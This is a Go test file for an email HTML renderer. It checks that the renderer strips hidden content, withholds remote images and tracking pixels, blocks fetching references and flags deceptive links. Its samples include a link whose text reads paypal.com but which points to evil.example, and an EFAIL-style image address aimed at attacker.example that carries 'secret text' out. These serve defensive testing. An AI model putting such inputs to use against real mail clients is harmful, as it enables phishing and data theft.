package render

import (
	"strings"
	"testing"
)

func TestHTMLDropsActiveAndHiddenContent(t *testing.T) {
	src := `<html><head><title>T1</title><style>p{color:red}</style><script>alert("s1")</script></head><body>
<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">Preheader one</div>
<span style="font-size:0;line-height:0">Preheader two</span>
<p style="visibility:hidden">Preheader three</p>
<div style="max-height:0px;overflow:hidden">Preheader four</div>
<div hidden>Preheader five</div>
<div style="display:none"/>Preheader six</div>
<!--[if mso]><p>Outlook only</p><![endif]-->
<!-- a comment -->
<template><p>Template text</p></template>
<iframe src="about:blank">Frame text</iframe>
<form><input value="Input text"><select><option>Option text</option></select><button>Button text</button>
<textarea>Area text</textarea>Form label</form>
<noscript>Noscript text</noscript>
<svg><text>Svg text</text></svg><svg/><object/>
<p>Visible <b>bold</b> text</p>
<td style="font-size:0"><span style="font-size:14px">Column text</span></td>
</body></html>`
	d := HTML(src, Options{})
	got := d.PlainText()
	for _, gone := range []string{"T1", "color:red", "s1", "Preheader", "Outlook only", "comment", "Template text",
		"Frame text", "Input text", "Option text", "Button text", "Area text", "Noscript text", "Svg text"} {
		mustNotContain(t, got, gone)
	}
	mustContain(t, got, "Visible bold text")
	mustContain(t, got, "Form label")
	mustContain(t, got, "Column text") // font-size:0 hides a container's own text only
	var boldSeen bool
	for _, b := range d.Blocks {
		for _, in := range b.Inlines {
			if in.Text == "bold" && in.Bold {
				boldSeen = true
			}
		}
	}
	if !boldSeen {
		t.Errorf("no bold inline in %+v", d.Blocks)
	}
}

func TestHTMLRemoteImageCountedNotKept(t *testing.T) {
	src := `<p>Hello</p><img src="https://images.example.net/logo.png" alt="Logo" width="200" height="50">`
	d := HTML(src, Options{})
	if d.Remote.Count != 1 || !equalStrings(d.Remote.Hosts, []string{"images.example.net"}) {
		t.Fatalf("remote = %+v", d.Remote)
	}
	if len(d.Remote.Trackers) != 0 {
		t.Errorf("a 200x50 logo is not a tracker: %+v", d.Remote)
	}
	mustNotContain(t, everything(d), "images.example.net")
	for _, b := range d.Blocks {
		if b.Kind == Image {
			t.Errorf("remote image kept as %+v", b)
		}
	}

	on := HTML(src, Options{AllowRemote: true})
	var src2 string
	for _, b := range on.Blocks {
		if b.Kind == Image {
			src2 = b.Src
		}
	}
	if src2 != "https://images.example.net/logo.png" {
		t.Errorf("AllowRemote: image src %q, blocks %+v", src2, on.Blocks)
	}
}

func TestHTMLTrackers(t *testing.T) {
	cases := map[string]string{
		"1x1":         `<img src="https://t1.example/a.gif" width="1" height="1">`,
		"css 1px":     `<img src="https://t2.example/a.gif" style="width:1px;height:1px">`,
		"zero":        `<img src="https://t3.example/a.gif" width="0" height="0">`,
		"hidden":      `<img src="https://t4.example/a.gif" style="display:none">`,
		"hidden div":  `<div style="display:none"><img src="https://t5.example/a.gif"></div>`,
		"open path":   `<img src="https://t6.example/wf/open?upn=1">`,
		"pixel path":  `<img src="https://t7.example/pixel.gif">`,
		"o.gif":       `<img src="https://t8.example/o.gif">`,
		"long token":  `<img src="https://t9.example/logo.png?u=a8F3kLq92mZx7Pw0vB4nR1">`,
		"td bg 1px":   `<table><tr><td background="https://t10.example/b.gif" width="1" height="1"></td></tr></table>`,
		"AllowRemote": `<img src="https://t11.example/a.gif" width="1" height="1">`,
	}
	for name, src := range cases {
		d := HTML(src, Options{AllowRemote: name == "AllowRemote"})
		if d.Remote.Count != 1 || len(d.Remote.Trackers) != 1 || d.Remote.Trackers[0] != d.Remote.Hosts[0] {
			t.Errorf("%s: remote = %+v", name, d.Remote)
		}
		for _, b := range d.Blocks {
			if b.Src != "" {
				t.Errorf("%s: tracker loaded: %+v", name, b)
			}
		}
	}
	plain := HTML(`<img src="https://cdn.example/images/5f3e2a1b9c8d7e6f5a4b3c2d1e0f9a8b.png" width="600" height="200">`, Options{})
	if len(plain.Remote.Trackers) != 0 {
		t.Errorf("hashed image name flagged: %+v", plain.Remote)
	}
}

func TestHTMLBlocksEveryFetchingReference(t *testing.T) {
	src := `<html><head>
<link rel="stylesheet" href="https://a.example/s.css">
<meta http-equiv="refresh" content="0; url=https://b.example/go">
<base href="https://c.example/">
<style>@import url("https://d.example/i.css"); body{background:url(https://e.example/bg.png)}
@font-face{src:url('//f.example/font.woff')}</style></head>
<body background="https://g.example/body.jpg">
<div style="background-image:url(https://h.example/x.png)">Styled</div>
<img srcset="https://i.example/1x.png 1x, https://j.example/2x.png 2x">
<picture><source srcset="https://k.example/p.webp"><img src="https://l.example/p.png" width="300" height="100"></picture>
<video poster="https://m.example/poster.jpg"><source src="https://n.example/v.mp4"></video>
<object data="https://o.example/o.swf"></object><embed src="https://p.example/e.swf">
<iframe src="https://q.example/frame"></iframe>
<table><tr><td background="https://r.example/td.png" width="300">Cell</td></tr></table>
<img src="\\s.example\share\x.png" width="100" height="100">
<svg><image href="https://t.example/svg.png"/></svg>
<p>Text <img src="cid:logo@x" alt="cid image"> <img src="data:image/png;base64,AAAA"> <img src="relative.png"></p>
</body></html>`
	d := HTML(src, Options{})
	want := strings.Fields("a.example b.example c.example d.example e.example f.example g.example h.example i.example j.example k.example l.example m.example n.example o.example p.example q.example r.example s.example t.example")
	if !equalStrings(d.Remote.Hosts, want) {
		t.Errorf("hosts = %v\nwant    %v", d.Remote.Hosts, want)
	}
	// relative.png would resolve against the <base href>: one more for c.example.
	if d.Remote.Count != len(want)+1 {
		t.Errorf("count = %d, want %d", d.Remote.Count, len(want)+1)
	}
	all := everything(d)
	for _, h := range want {
		mustNotContain(t, all, h)
	}
	mustContain(t, d.PlainText(), "Styled")
	mustContain(t, d.PlainText(), "Cell")
	var cid string
	for _, b := range d.Blocks {
		if b.Kind == Image {
			cid = b.CID
		}
	}
	if cid != "logo@x" {
		t.Errorf("cid image not kept: %+v", d.Blocks)
	}
}

func TestHTMLDataTableAligned(t *testing.T) {
	src := `<p>Your order</p><table>
<tr><th>Item</th><th>Qty</th><th>Price</th></tr>
<tr><td>Tea</td><td>2</td><td>4.00</td></tr>
<tr><td>Biscuits</td><td>10</td><td>12.50</td></tr>
</table><p>Thanks</p>`
	d := HTML(src, Options{})
	if len(d.Blocks) != 3 || d.Blocks[1].Kind != Preformatted {
		t.Fatalf("blocks = %+v", d.Blocks)
	}
	want := "Item      Qty  Price\n" +
		"--------------------\n" +
		"Tea       2    4.00\n" +
		"Biscuits  10   12.50"
	if got := blockText(d.Blocks[1]); got != want {
		t.Errorf("table =\n%s\nwant\n%s", got, want)
	}
}

func TestHTMLLayoutTableFlattened(t *testing.T) {
	cases := map[string]string{
		"presentation": `<table role="presentation"><tr><td>Left side</td><td>Right side</td></tr><tr><td>A</td><td>B</td></tr></table>`,
		"nested":       `<table><tr><td><table><tr><td>Left side</td></tr></table></td><td>Right side</td></tr><tr><td>A</td><td>B</td></tr></table>`,
		"block cells":  `<table><tr><td><p>Left side</p></td><td>Right side</td></tr><tr><td>A</td><td>B</td></tr></table>`,
		"one column":   `<table><tr><td>Left side</td></tr><tr><td>Right side</td></tr></table>`,
	}
	for name, src := range cases {
		d := HTML(src, Options{})
		for _, b := range d.Blocks {
			if b.Kind != Paragraph {
				t.Errorf("%s: block %+v", name, b)
			}
		}
		got := d.PlainText()
		if !strings.Contains(got, "Left side\n\n") || !strings.Contains(got, "Right side") {
			t.Errorf("%s: text %q", name, got)
		}
	}
}

func TestHTMLQuotesAndLists(t *testing.T) {
	src := `<p>Reply</p><blockquote><p>First level</p><blockquote>Second level</blockquote><p>Back</p></blockquote>
<ul><li>One<li>Two<ul><li>Nested</li></ul></li></ul><ol start="3"><li>Three</li><li>Four</li></ol>
<h2>Title</h2><pre>
  code  line
 second</pre><hr><p>a<br>b</p>`
	d := HTML(src, Options{})
	want := "Reply\n\n" +
		"> First level\n>\n" +
		"> > Second level\n>\n" +
		"> Back\n\n" +
		"- One\n- Two\n  - Nested\n3. Three\n4. Four\n\n" +
		"Title\n\n" +
		"  code  line\n second\n\n" +
		"----\n\n" +
		"a\nb"
	if got := d.PlainText(); got != want {
		t.Errorf("PlainText =\n%s\n--- want\n%s", got, want)
	}
	var h Block
	for _, b := range d.Blocks {
		if b.Kind == Heading {
			h = b
		}
	}
	if h.Level != 2 {
		t.Errorf("heading = %+v", h)
	}
}

func TestHTMLWhitespaceEntitiesPlaceholders(t *testing.T) {
	d := HTML("<p>  Hello,\n\t  {{name}}  &amp; &lt;friends&gt;&nbsp;!</p><p>caf&eacute; &#x263A;</p>", Options{})
	want := "Hello, {{name}} & <friends>\u00a0!\n\ncafé ☺"
	if got := d.PlainText(); got != want {
		t.Errorf("got %q want %q", got, want)
	}
}

func TestHTMLLinksInText(t *testing.T) {
	d := HTML(`<p>See <a href="https://evil.example/login">https://paypal.com</a> or <a href="https://docs.example/a">the docs</a>.</p>`, Options{})
	if len(d.Links) != 2 {
		t.Fatalf("links %+v", d.Links)
	}
	if !d.Links[0].Has(TextHostMismatch) || d.Links[0].Host != "evil.example" {
		t.Errorf("mismatch not flagged: %+v", d.Links[0])
	}
	if len(d.Links[1].Warnings) != 0 || !d.Links[1].Allowed {
		t.Errorf("plain link flagged: %+v", d.Links[1])
	}
	want := "See https://paypal.com <https://evil.example/login> or the docs <https://docs.example/a>."
	if got := d.PlainText(); got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

func TestHTMLDeepNestingBounded(t *testing.T) {
	for _, tag := range []string{"div", "blockquote", "table", "ul", "b"} {
		n := 100000
		src := strings.Repeat("<"+tag+">", n) + "deep text" + strings.Repeat("</"+tag+">", n) + "<p>after</p>"
		d := HTML(src, Options{})
		got := d.PlainText()
		mustContain(t, got, "deep text")
		mustContain(t, got, "after")
		for _, b := range d.Blocks {
			if b.Quote > maxQuote || b.Depth > maxQuote {
				t.Errorf("%s: depth not capped: %+v", tag, b)
			}
		}
	}
}

func TestHTMLLimits(t *testing.T) {
	d := HTML(strings.Repeat("<p>para</p>", 1000), Options{MaxBlocks: 10})
	if len(d.Blocks) != 10 || !d.Truncated {
		t.Errorf("blocks %d truncated %v", len(d.Blocks), d.Truncated)
	}
	d = HTML("<p>"+strings.Repeat("é", 100)+"</p>", Options{MaxInput: 51})
	if !d.Truncated || !strings.HasPrefix(d.PlainText(), "éé") || strings.Count(d.PlainText(), "é") != 24 {
		t.Errorf("input cut: %q truncated %v", d.PlainText(), d.Truncated)
	}
}

func TestHTMLEFAILImageNeverLoaded(t *testing.T) {
	// An image address that swallowed other text must not be requested
	// even with remote content allowed.
	src := "<img src=\"http://attacker.example/?\nsecret text <p>more\">"
	d := HTML(src, Options{AllowRemote: true})
	for _, b := range d.Blocks {
		if b.Src != "" {
			t.Errorf("loaded %q", b.Src)
		}
	}
	if d.Remote.Count != 1 {
		t.Errorf("remote %+v", d.Remote)
	}
}
